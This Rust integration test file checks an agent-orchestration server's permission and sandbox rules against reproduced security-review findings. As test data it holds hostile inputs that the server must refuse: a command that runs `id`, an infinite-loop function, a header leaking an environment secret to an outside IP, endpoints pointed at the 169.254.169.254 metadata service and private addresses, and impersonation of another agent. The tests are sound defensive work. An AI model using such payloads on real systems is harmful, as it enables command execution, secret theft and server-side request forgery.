//! Who may make the server run what (docs/security.md), from outside, over WebSocket and HTTP:
//! one test per reproduction of the review (each refused or harmless), and the rule on
//! server-run kinds for every kind, as a participant and as an admin.

use std::time::Duration;

use agent_kinds::{NetRule, Sandbox};
use agent_sdk::proto::*;
use agent_sdk::AgentClient;
use jsonrpsee::core::client::ClientT;
use orchestrator::engine::config::Limits;
use serde_json::{json, Value};
use tests::{full_log, wait_for, TestServer, P, WAIT};

/// One participant of every kind, valid for a server whose agents may reach loopback.
fn every_kind() -> Vec<(String, Value)> {
    let all = json!([
        ["process", {"id": "p", "kind": "process", "command": ["/bin/sh", "-c", "echo '{\"text\":\"hi\"}'"]}],
        ["function", {"id": "f", "kind": "function", "source": "function handler() { return 'hi'; }"}],
        ["http", {"id": "h", "kind": "http", "endpoint": "http://127.0.0.1:9/x"}],
        ["llm", {"id": "l", "kind": "llm", "baseUrl": "http://127.0.0.1:9/v1", "model": "m"}],
        ["tool", {"id": "t", "kind": "tool", "builtins": ["calculator"]}],
        ["tool", {"id": "t", "kind": "tool", "mcp": [{"command": ["/bin/true"]}]}],
        ["tool", {"id": "t", "kind": "tool", "mcp": [{"url": "http://127.0.0.1:9/mcp"}]}],
        ["a2a", {"id": "a", "kind": "a2a", "url": "http://127.0.0.1:9/"}],
        ["orchestrate", {"id": "o", "kind": "orchestrate", "steps": [{"as": "x", "scenario": {"participants": [{"id": "s", "kind": "scripted", "replies": ["x"]}]}}]}]
    ]);
    pairs(all)
}

/// `[[name, value], …]` as pairs.
fn pairs(v: Value) -> Vec<(String, Value)> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|p| (p[0].as_str().unwrap().to_string(), p[1].clone()))
        .collect()
}

fn with(p: Value) -> Value {
    json!({"participants": [p, "alice"]})
}

/// A raw HTTP/1.1 request; the status and the JSON body.
async fn http(
    server: &TestServer,
    method: &str,
    path: &str,
    token: &str,
    body: &Value,
) -> (u16, Value) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = server.running().local_addr();
    let mut s = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let body = body.to_string();
    let req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    s.write_all(req.as_bytes()).await.expect("write");
    let mut out = Vec::new();
    tokio::time::timeout(WAIT, s.read_to_end(&mut out))
        .await
        .expect("an answer in time")
        .expect("read");
    let text = String::from_utf8_lossy(&out);
    let status: u16 = text[9..12].parse().expect("status");
    let json = text
        .split_once("\r\n\r\n")
        .and_then(|(_, b)| serde_json::from_str(b.trim()).ok())
        .unwrap_or(Value::Null);
    (status, json)
}

async fn ws_create(server: &TestServer, who: &str, params: Value) -> Result<Value, (i32, Value)> {
    let c = server.client(who).await;
    let r: Result<Value, _> = c.request("createConversation", P(params)).await;
    r.map_err(|e| match e {
        jsonrpsee::core::ClientError::Call(o) => (
            o.code(),
            o.data()
                .and_then(|d| serde_json::from_str(d.get()).ok())
                .unwrap_or(Value::Null),
        ),
        other => panic!("{other}"),
    })
}

async fn parent(server: &TestServer) {
    server.create("parent", &["alice", "bob"]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_admins_declare_participants_the_server_runs_over_websocket_and_http() {
    let server = TestServer::start().await;
    parent(&server).await;
    for (n, (kind, p)) in every_kind().into_iter().enumerate() {
        // A participant, opening a sub-conversation of one it takes part in: refused, with the
        // field's path, over both transports.
        let e = ws_create(
            &server,
            "alice",
            json!({"conversationId": format!("ws-{n}"), "parentConversationId": "parent", "scenario": with(p.clone())}),
        )
        .await
        .expect_err(&kind);
        assert_eq!(e.0, -32002, "{kind}: {e:?}");
        assert_eq!(e.1["path"], "scenario.participants[0].kind", "{kind}");
        let (status, body) = http(
            &server,
            "POST",
            "/conversations",
            server.token("alice"),
            &json!({"conversationId": format!("http-{n}"), "parentConversationId": "parent", "scenario": with(p.clone())}),
        )
        .await;
        assert_eq!(status, 403, "{kind}: {body}");
        assert_eq!(body["error"]["code"], -32002, "{kind}: {body}");
        // An admin: accepted, over both transports.
        ws_create(
            &server,
            "admin",
            json!({"conversationId": format!("admin-ws-{n}"), "parentConversationId": "parent", "scenario": with(p.clone())}),
        )
        .await
        .unwrap_or_else(|e| panic!("{kind}: {e:?}"));
        let (status, body) = http(
            &server,
            "POST",
            "/conversations",
            server.token("admin"),
            &json!({"conversationId": format!("admin-http-{n}"), "scenario": with(p)}),
        )
        .await;
        assert_eq!(status, 201, "{kind}: {body}");
    }
    // What a participant may declare: external participants (of the parent) and scripted
    // replies.
    ws_create(
        &server,
        "alice",
        json!({"conversationId": "plain", "parentConversationId": "parent", "scenario": {"participants": [
            "alice", {"id": "bob", "external": true}, {"id": "echo", "kind": "scripted", "replies": ["ok"]}]}}),
    )
    .await
    .expect("external and scripted participants");
    let (status, body) = http(
        &server,
        "POST",
        "/conversations",
        server.token("alice"),
        &json!({"conversationId": "plain-http", "parentConversationId": "parent", "participants": ["alice", "bob"]}),
    )
    .await;
    assert_eq!(status, 201, "{body}");
}

/// Case 1: a process participant in a participant's inline scenario ran `id` as root.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_participant_cannot_make_the_server_run_a_command() {
    let server = TestServer::start().await;
    parent(&server).await;
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("MARKER");
    let scenario = json!({"participants": [
            {"id": "p", "kind": "process", "command": ["/bin/sh", "-c", format!("id > {}; echo '{{\"text\":\"done\"}}'", marker.display())]},
            "alice"],
        "policy": {"order": "round_robin", "first": "p"}, "turn": {"timeout": "3s", "onTimeout": "end"}});
    let e = ws_create(
        &server,
        "alice",
        json!({"conversationId": "rce", "parentConversationId": "parent", "scenario": scenario}),
    )
    .await
    .expect_err("refused");
    assert_eq!(e.0, -32002);
    let admin = server.sdk("admin", None).await;
    assert!(
        admin.get_conversation("rce").await.is_err(),
        "nothing created"
    );
    assert!(!marker.exists(), "nothing ran");
}

/// Case 2: a function's top level ran while the scenario was checked, and stalled the server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_function_never_runs_at_check_time_nor_on_the_async_threads() {
    let server = TestServer::start().await;
    parent(&server).await;
    let looping = json!({"id": "f", "kind": "function", "timeout": "2s", "source": "while (true) {} function handler() {}"});
    let scenario = json!({"participants": [looping, "alice"], "policy": {"order": "round_robin", "first": "f"}});
    let e = ws_create(
        &server,
        "alice",
        json!({"conversationId": "stall", "parentConversationId": "parent", "scenario": scenario.clone()}),
    )
    .await
    .expect_err("refused for a participant");
    assert_eq!(e.0, -32002);
    // An admin may declare it: the check compiles the source and runs none of it, and the
    // turn runs on a blocking thread until its time limit while the server keeps answering.
    ws_create(
        &server,
        "admin",
        json!({"conversationId": "stall", "scenario": scenario}),
    )
    .await
    .expect("created without running the loop");
    let (status, _) = http(&server, "GET", "/healthz", "", &Value::Null).await;
    assert_eq!(status, 200);
    let admin = server.sdk("admin", None).await;
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let log = full_log(&admin, "stall").await;
        let stopped = log.iter().any(|e| {
            e.kind == EventKind::Trace && e.payload_value().to_string().contains("time limit")
        });
        if stopped {
            break;
        }
        let (status, _) = http(&server, "GET", "/healthz", "", &Value::Null).await;
        assert_eq!(status, 200, "the server answers while the function runs");
        assert!(
            tokio::time::Instant::now() < deadline,
            "the function was not stopped: {log:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // A scenario that may hold a function goes through the same check with a hostile source
    // that would only end at its limit if it ran.
    let e = ws_create(
        &server,
        "admin",
        json!({"conversationId": "syntax", "scenario": {"participants": [{"id": "f", "kind": "function", "source": "function handler( {"}]}}),
    )
    .await
    .expect_err("does not compile");
    assert_eq!(e.1["path"], "scenario.participants[0].source");
}

/// Case 3: an http participant sent the server's environment anywhere.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_and_addresses_are_the_operators_allow_lists() {
    std::env::set_var("SECURITY_TEST_SECRET", "hunter2");
    // The default sandbox: no environment variable, public addresses only.
    let server = TestServer::with_limits(Limits::default()).await;
    parent(&server).await;
    let leak = json!({"id": "h", "kind": "http", "endpoint": "http://93.184.215.14/collect",
        "headers": {"X-Leak": {"env": "SECURITY_TEST_SECRET"}}});
    let e = ws_create(
        &server,
        "alice",
        json!({"parentConversationId": "parent", "scenario": with(leak.clone())}),
    )
    .await
    .expect_err("a participant");
    assert_eq!(e.0, -32002);
    let e = ws_create(&server, "admin", json!({"scenario": with(leak)}))
        .await
        .expect_err("not an allowed variable, even for an admin");
    assert_eq!(e.0, -32602);
    assert_eq!(e.1["path"], "scenario.participants[0].headers.X-Leak.env");
    let refused = json!([
        ["endpoint", {"id": "h", "kind": "http", "endpoint": "http://127.0.0.1:9/"}],
        ["endpoint", {"id": "h", "kind": "http", "endpoint": "http://169.254.169.254/latest/meta-data"}],
        ["endpoint", {"id": "h", "kind": "http", "endpoint": "http://localhost:9/"}],
        ["baseUrl", {"id": "l", "kind": "llm", "baseUrl": "http://10.0.0.1/v1", "model": "m"}],
        ["url", {"id": "a", "kind": "a2a", "url": "http://[::1]:9/"}],
        ["mcp[0].url", {"id": "t", "kind": "tool", "mcp": [{"url": "http://192.168.1.1/mcp"}]}],
        ["apiKeyEnv", {"id": "l", "kind": "llm", "baseUrl": "https://llm.example/v1", "model": "m", "apiKeyEnv": "HOME"}]
    ]);
    for (field, p) in pairs(refused) {
        let e = ws_create(&server, "admin", json!({"scenario": with(p.clone())}))
            .await
            .expect_err(&field);
        assert_eq!(e.0, -32602, "{p}");
        assert_eq!(
            e.1["path"],
            format!("scenario.participants[0].{field}"),
            "{p}"
        );
    }
    // What the operator allows is allowed.
    let mut server = server;
    server.stop().await;
    server.limits.kinds = std::sync::Arc::new(
        Sandbox::default()
            .allowing(NetRule::Loopback)
            .with_env(["SECURITY_TEST_SECRET".to_string()]),
    );
    server.restart().await;
    let ok = json!({"id": "h", "kind": "http", "endpoint": "http://127.0.0.1:9/",
        "headers": {"X-Key": {"env": "SECURITY_TEST_SECRET"}}});
    ws_create(&server, "admin", json!({"scenario": with(ok)}))
        .await
        .expect("allowed by the operator");
}

/// Opens `id` from the library's `reader` scenario.
async fn open_named(client: &dyn AgentClient, id: &str, parent: Option<&str>) {
    client
        .create_conversation(CreateConversationParams {
            conversation_id: Some(id.into()),
            parent_conversation_id: parent.map(str::to_string),
            scenario_name: Some("reader".into()),
            ..Default::default()
        })
        .await
        .expect("a library scenario");
}

/// Case 4: an internal participant named after a real agent spoke as it, and read its
/// conversations.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_id_names_one_principal() {
    let server = TestServer::start().await;
    parent(&server).await;
    // Speaking as carol, who has a token: refused for everyone, with the id's path.
    for who in ["alice", "admin"] {
        let e = ws_create(
            &server,
            who,
            json!({"parentConversationId": "parent", "scenario": {"participants": [
                {"id": "carol", "kind": "scripted", "replies": ["I am carol"]}, "alice"]}}),
        )
        .await
        .expect_err(who);
        assert_eq!(e.0, -32602, "{who}");
        assert_eq!(e.1["path"], "scenario.participants[0].id", "{who}");
    }
    // carol and bob talk privately.
    server.create("carolbob", &["carol", "bob"]).await;
    let carol = server.sdk("carol", None).await;
    carol
        .send_message(SendMessageParams {
            conversation_id: "carolbob".into(),
            payload: MessagePayload::text("the private plan"),
            finality: Finality::Turn,
            turn_hint: None,
            client_request_id: None,
            after_key: None,
        })
        .await
        .unwrap();
    // The library offers a scenario whose function reads another conversation. Opened by
    // alice, its agent reads with alice's rights: carolbob stays out of reach.
    let library = json!({"participants": [
            {"id": "reader", "kind": "function", "source": "function handler(i) { return JSON.stringify(i); }",
             "context": {"sources": [{"name": "other", "conversation": "carolbob", "select": {}, "fetch": "all"}]}},
            "alice"],
        "policy": {"order": "round_robin", "first": "reader"}, "turn": {"timeout": "2s", "onTimeout": "end"}});
    server
        .running()
        .orchestrator()
        .set_scenarios(vec![("reader".into(), library)])
        .unwrap();
    let alice = server.sdk("alice", None).await;
    open_named(&alice, "sneak", Some("parent")).await;
    wait_for(&alice, "sneak", "the close", |s| {
        s.status == ConversationStatus::Closed
    })
    .await;
    let log = full_log(&alice, "sneak").await;
    let all = serde_json::to_string(&log).unwrap();
    assert!(!all.contains("the private plan"), "{all}");
    assert!(all.contains("no conversation carolbob"), "{all}");
    // The same scenario opened by an admin reads what the admin may read.
    let admin = server.sdk("admin", None).await;
    open_named(&admin, "audit", None).await;
    wait_for(&admin, "audit", "the reader's answer", |s| s.turn >= 2).await;
    let log = full_log(&admin, "audit").await;
    assert!(serde_json::to_string(&log)
        .unwrap()
        .contains("the private plan"));
    // No token can be made for an id a scenario declared.
    let store = tests::open_store(&server.db);
    let e = orchestrator::engine::auth::create_token(store.as_ref(), "reader", false).unwrap_err();
    assert!(e.to_rpc().message.contains("one principal"), "{e}");
}

/// Case 5: durations without bounds, stop rules that timeouts escaped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn durations_are_bounded_and_silent_conversations_end() {
    let server = TestServer::start().await;
    for (field, scenario) in [
        (
            "turn.timeout",
            json!({"participants": ["alice", "bob"], "policy": {"order": "round_robin"}, "turn": {"timeout": "18446744073709551615ms"}}),
        ),
        (
            "turn.timeout",
            json!({"participants": ["alice", "bob"], "policy": {"order": "round_robin"}, "turn": {"timeout": "5000000000h"}}),
        ),
        (
            "turn.timeout",
            json!({"participants": ["alice", "bob"], "policy": {"order": "round_robin"}, "turn": {"timeout": "1ms"}}),
        ),
        (
            "stop.idleTimeout",
            json!({"participants": ["alice"], "stop": {"idleTimeout": "99999999999999999999s"}}),
        ),
        (
            "stop.maxDuration",
            json!({"participants": ["alice"], "stop": {"maxDuration": 0}}),
        ),
    ] {
        let e = ws_create(&server, "admin", json!({"scenario": scenario}))
            .await
            .expect_err(field);
        assert_eq!(e.0, -32602, "{field}");
        assert_eq!(e.1["path"], format!("scenario.{field}"));
    }
    let admin = server.sdk("admin", None).await;
    // maxTurns counts turns that timed out.
    ws_create(&server, "admin", json!({"conversationId": "max", "scenario": {"participants": ["alice", "bob"],
        "policy": {"order": "round_robin"}, "stop": {"maxTurns": 3}, "turn": {"timeout": "100ms", "onTimeout": "skip"}}}))
        .await
        .unwrap();
    // Nobody speaks, with an idle timeout that the orchestrator's own events used to reset.
    ws_create(&server, "admin", json!({"conversationId": "idle", "scenario": {"participants": ["alice", "bob"],
        "policy": {"order": "round_robin"}, "stop": {"idleTimeout": "700ms"}, "turn": {"timeout": "100ms", "onTimeout": "retry"}}}))
        .await
        .unwrap();
    for (id, reasons) in [
        ("max", vec!["max_turns"]),
        ("idle", vec!["idle_timeout", "no_answer"]),
    ] {
        wait_for(&admin, id, "the close", |s| {
            s.status == ConversationStatus::Closed
        })
        .await;
        let log = full_log(&admin, id).await;
        let last = log.last().unwrap().payload_value();
        let reason = last["data"]["reason"].as_str().unwrap_or("").to_string();
        assert!(reasons.contains(&reason.as_str()), "{id}: {reason}");
        let timeouts = log
            .iter()
            .filter(|e| e.payload_value()["type"] == "turn_timeout")
            .count();
        if id == "max" {
            assert_eq!(timeouts, 3, "closed when turn 3 timed out");
        }
    }
}

fn running(pattern: &str) -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
        std::fs::read(e.path().join("cmdline"))
            .map(|c| {
                String::from_utf8_lossy(&c)
                    .replace('\0', " ")
                    .contains(pattern)
            })
            .unwrap_or(false)
    })
}

/// Case 6: a process's children outlived its deadline.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_process_is_killed_with_its_children_at_the_deadline() {
    let server = TestServer::start().await;
    let admin = server.sdk("admin", None).await;
    ws_create(&server, "admin", json!({"conversationId": "kids", "scenario": {"participants": [
            {"id": "p", "kind": "process", "command": ["sh", "-c", "sleep 2317 & sleep 2417"]}, "alice"],
        "policy": {"order": "round_robin", "first": "p"}, "turn": {"timeout": "1s", "onTimeout": "end"}}}))
        .await
        .unwrap();
    let mut seen = false;
    let deadline = tokio::time::Instant::now() + WAIT;
    while tokio::time::Instant::now() < deadline {
        seen |= running("sleep 2317");
        let log = full_log(&admin, "kids").await;
        if log
            .iter()
            .any(|e| e.payload_value().to_string().contains("was killed"))
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(seen, "the process ran");
    let mut gone = false;
    for _ in 0..100 {
        if !running("sleep 2317") && !running("sleep 2417") {
            gone = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(gone, "the process group was killed whole");
}

/// Processes get the sandbox's limits and environment, and optionally another user.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn processes_run_with_limits_a_minimal_environment_and_the_chosen_user() {
    std::env::set_var("SECURITY_TEST_HIDDEN", "x");
    let root = nix::unistd::Uid::effective().is_root();
    let user = root.then(|| agent_kinds::ProcessUser::lookup("nobody").expect("nobody"));
    let limits = Limits {
        kinds: std::sync::Arc::new(
            Sandbox::default()
                .with_exec_limits(2, 7, 300)
                .with_process_user(user.clone()),
        ),
        ..Limits::default()
    };
    let server = TestServer::with_limits(limits).await;
    let admin = server.sdk("admin", None).await;
    let script = "echo \"{\\\"text\\\":\\\"cpu=$(ulimit -t) mem=$(ulimit -v) uid=$(id -u) hidden=${SECURITY_TEST_HIDDEN:-none}\\\"}\"";
    ws_create(
        &server,
        "admin",
        json!({"conversationId": "lim", "scenario": {"participants": [
            {"id": "p", "kind": "process", "command": ["sh", "-c", script]}, "alice"],
        "policy": {"order": "round_robin", "first": "p"}}}),
    )
    .await
    .unwrap();
    wait_for(&admin, "lim", "the reply", |s| s.turn >= 2).await;
    let log = full_log(&admin, "lim").await;
    let reply = log
        .iter()
        .find(|e| e.kind == EventKind::Message && e.author == "p")
        .map(|e| e.payload_value()["text"].as_str().unwrap_or("").to_string())
        .expect("a reply");
    let uid = user.map_or_else(|| nix::unistd::Uid::effective().as_raw(), |u| u.uid);
    assert_eq!(
        reply,
        format!("cpu=7 mem={} uid={uid} hidden=none", 300 * 1024)
    );
    if !root {
        eprintln!(
            "not root: --process-user was not exercised (it needs the right to switch users)"
        );
    }
}
